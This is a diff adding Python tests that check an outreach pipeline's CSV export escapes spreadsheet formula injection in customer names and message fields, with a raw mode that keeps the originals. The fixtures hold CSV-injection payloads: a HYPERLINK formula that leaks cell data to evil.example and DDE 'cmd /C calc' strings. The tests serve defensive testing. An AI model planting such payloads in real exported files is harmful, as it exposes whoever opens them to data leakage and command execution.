@@ -13,9 +13,11 @@ from datetime import datetime
 from pathlib import Path
 from typing import Any
 
+import pytest
 import sqlalchemy as sa
 
-from outreach.export import FIELDS, export_rows
+from outreach.csv_cells import spreadsheet_safe
+from outreach.export import COLUMNS, FIELDS, export_rows, write_csv
 from outreach.schema import events
 from tests.pipeline import Pipeline
 from tests.smtp_server import SmtpServer
@@ -163,3 +165,70 @@ def test_rows_stream_in_chunks_with_their_own_histories(pipeline: Pipeline, twil
     assert len(whole) == 8 and chunked == whole
     counts = event_counts(p)
     assert all(len(row["history"]) == counts[row["id"]] for row in chunked)
+
+
+FORMULA_NAMES = """
+    id,name,phone,country,consent_sms,status
+    f1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",+8613800138011,CN,yes,active
+    f2,+cmd|' /C calc'!A0,+8613800138012,CN,yes,active
+    f3,-2+3+cmd|' /C calc'!A0,+8613800138013,CN,yes,active
+    f4,@SUM(1+1)*cmd|' /C calc'!A0,+8613800138014,CN,yes,active
+    f5,王芳,+8613800138015,CN,yes,active
+"""
+
+NAME_ONLY = """
+    id: names
+    name: The name alone
+    purpose: service
+    segment: "status == 'active'"
+    steps:
+      - id: notify
+        channel: sms
+        content:
+          sms: "{{ name }}"
+"""
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised_and_raw_keeps_them(
+    pipeline: Pipeline, twilio_server: Any
+) -> None:
+    p = pipeline
+    p.import_csv(FORMULA_NAMES)
+    p.run(p.campaign(NAME_ONLY))
+    names = {r["customer_id"]: r["body"] for r in p.rows(campaign_id="names")}
+    assert names["f1"].startswith("=HYPERLINK(")  # the ledger keeps what was sent
+
+    def exported(*extra: str) -> dict[str, dict[str, str]]:
+        result = cli(p, "deliveries", "export", "--campaign", "names", *extra)
+        assert result.returncode == 0, result.stderr
+        return {r["customer_id"]: r for r in csv.DictReader(io.StringIO(result.stdout.decode(), newline=""))}
+
+    safe = exported()
+    for customer in ("f1", "f2", "f3", "f4"):
+        assert safe[customer]["body"] == "'" + names[customer], customer
+    assert safe["f5"]["body"] == "王芳"
+    assert safe["f1"]["address"] == "+8613800138011"  # a number is no formula: phone numbers stay as they are
+    raw = exported("--raw")
+    assert {c: r["body"] for c, r in raw.items()} == names
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_trigger_is_neutralised_in_any_text_column(trigger: str) -> None:
+    value = f'{trigger}HYPERLINK("http://evil.example","x")'
+    row: dict[str, Any] = {name: None for name in COLUMNS}
+    row.update(id=1, subject=value, body="ok " + value, error_message=value, history=[value])
+    out = io.StringIO(newline="")
+    write_csv(iter([row]), out)
+    [read] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert read["subject"] == read["error_message"] == read["history"] == "'" + value
+    assert read["body"] == "ok " + value  # only a cell's first character makes a formula
+    assert read["id"] == "1"
+    raw = io.StringIO(newline="")
+    write_csv(iter([row]), raw, raw=True)
+    assert next(csv.DictReader(io.StringIO(raw.getvalue(), newline="")))["subject"] == value
+
+
+@pytest.mark.parametrize("number", ["-12.5", "+8613800138001", "-3e5", "+.5"])
+def test_numbers_are_no_formulas_and_stay_as_they_are(number: str) -> None:
+    assert spreadsheet_safe(number) == number
+    assert spreadsheet_safe(number + "+1") == "'" + number + "+1"
